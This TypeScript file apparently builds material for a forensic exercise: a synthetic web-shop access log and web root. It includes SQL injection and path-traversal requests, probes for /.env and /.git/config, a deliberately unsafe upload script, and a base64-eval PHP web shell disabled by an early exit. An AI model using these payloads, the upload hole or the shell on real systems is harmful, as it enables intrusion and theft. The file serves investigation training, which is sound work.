import { gzipSync } from 'node:zlib';
import type { Chance } from '../chance.ts';
import { tar } from '../../../evidence/evidence-support.ts';
import { INTRUDER } from './host.ts';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** `13/May/2019:03:06:09 +0000`. */
function stamp(at: number): string {
  const text = new Date(at * 1000).toISOString();
  const month = MONTHS[Number(text.slice(5, 7)) - 1] ?? '';
  return `${text.slice(8, 10)}/${month}/${text.slice(0, 4)}:${text.slice(11, 19)} +0000`;
}

interface Asked {
  at: number;
  client: string;
  request: string;
  status: number;
  bytes: number;
  referer?: string;
  agent: string;
}

function line({ at, client, request, status, bytes, referer = '-', agent }: Asked): string {
  return `${client} - - [${stamp(at)}] "${request} HTTP/1.1" ${status} ${bytes} "${referer}" "${agent}"`;
}

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:66.0) Gecko/20100101 Firefox/66.0';
const SCRIPT = 'python-requests/2.21.0';

/** What a customer does: the first page, a product, sometimes the basket. */
function customer(at: number, chance: Chance): Asked[] {
  const client = `192.0.2.${chance.between(100, 250)}`;
  const page = (after: number, request: string, referer: string): Asked => ({
    at: at + after,
    client,
    request,
    status: 200,
    bytes: chance.between(4000, 60_000),
    referer,
    agent: BROWSER,
  });
  const product = `/product.php?id=${chance.between(1, 400)}`;
  const visit = [
    page(0, 'GET /index.php', '-'),
    page(chance.between(3, 20), `GET ${product}`, 'https://shop.example/index.php'),
  ];
  if (chance.happens(0.3))
    visit.push(page(chance.between(21, 40), 'POST /basket.php', `https://shop.example${product}`));
  return visit;
}

/** What the intruder tried before: SQL on a page that takes its number as a number, and files that nobody links to. */
const TRIED: readonly (readonly [time: string, request: string, status: number, bytes: number])[] = [
  ['01:05:12', 'GET /product.php?id=335%27%20or%20%271%27=%271', 200, 18_214],
  ['01:05:13', 'GET /product.php?id=335%20and%201=1', 200, 18_214],
  ['01:05:15', 'GET /product.php?id=335%20and%201=2', 200, 18_214],
  ['01:05:18', 'GET /product.php?id=-1%20union%20select%201,version(),3', 200, 4210],
  ['01:06:40', 'GET /.env', 404, 196],
  ['01:06:41', 'GET /.git/config', 404, 196],
];

/**
 * The shop's access log: customers, its own scheduler from outside, and the intruder, who tries this and that, sends a script,
 * tries it, and two hours later uses it.
 * @param uses when the script is asked, in seconds since 1970
 */
export function accessLog(
  from: number,
  to: number,
  uses: readonly number[],
  chance: Chance,
): { text: string; requests: number; attacks: number } {
  const asked: Asked[] = [];
  for (let at = from; at < to; at += 60) {
    for (let i = chance.between(1, 3); i > 0; i--)
      asked.push(...customer(at + chance.between(0, 15), chance));
    // Somebody's monitor: one client, no link to the page, every minute.
    asked.push({
      at: at + 30,
      client: '192.0.2.9',
      request: 'GET /health.php',
      status: 200,
      bytes: 2,
      agent: 'UptimeCheck/1.0',
    });
  }
  const own = (at: number, request: string, status: number, bytes: number): Asked => ({
    at,
    client: INTRUDER,
    request,
    status,
    bytes,
    agent: SCRIPT,
  });
  const seconds = (time: string): number => Date.parse(`2019-05-13T${time}Z`) / 1000;
  asked.push(
    ...TRIED.map(([time, request, status, bytes]) => own(seconds(time), request, status, bytes)),
    own(seconds('01:12:40'), 'GET /index.php?page=../../../../etc/passwd', 403, 199),
    own(seconds('01:14:02'), 'POST /plugins/upload.php?name=cache.php', 200, 61),
    own(seconds('01:14:31'), 'POST /plugins/cache.php', 200, 12),
    ...uses.map((at) => own(at, 'POST /plugins/cache.php', 200, 20)),
  );
  asked.sort((a, b) => a.at - b.at);
  return { text: `${asked.map(line).join('\n')}\n`, requests: asked.length, attacks: TRIED.length + 1 };
}

/** The shop's scripts. What the intruder left ends at once: it is shown here, and does nothing. */
const SCRIPTS: readonly (readonly [path: string, text: string])[] = [
  ['index.php', "<?php\nrequire 'shop.php';\necho page($_GET['page'] ?? 'start');\n"],
  ['product.php', "<?php\nrequire 'shop.php';\necho product((int) $_GET['id']);\n"],
  [
    'shop.php',
    "<?php\nfunction order_mail(array $order): void {\n    mail($order['to'], 'Your order', $order['text']);\n}\n",
  ],
  [
    'plugins/upload.php',
    "<?php\n// Takes pictures of products.\nmove_uploaded_file($_FILES['file']['tmp_name'], __DIR__ . '/' . basename($_GET['name']));\n",
  ],
  [
    'plugins/cache.php',
    "<?php\nexit; // Made harmless for this example.\n@eval(base64_decode($_POST['k']));\n",
  ],
];

/** A tar of the shop's document root, as its administrator packed it. */
export function webRoot(): Buffer {
  const entries = SCRIPTS.map(([path, text]) => ({ name: `var/www/shop/${path}`, content: text }));
  return gzipSync(tar(entries), { level: 9 });
}

export const SHELL = {
  path: '/plugins/cache.php',
  file: '/var/www/shop/plugins/cache.php',
  line: 3,
} as const;
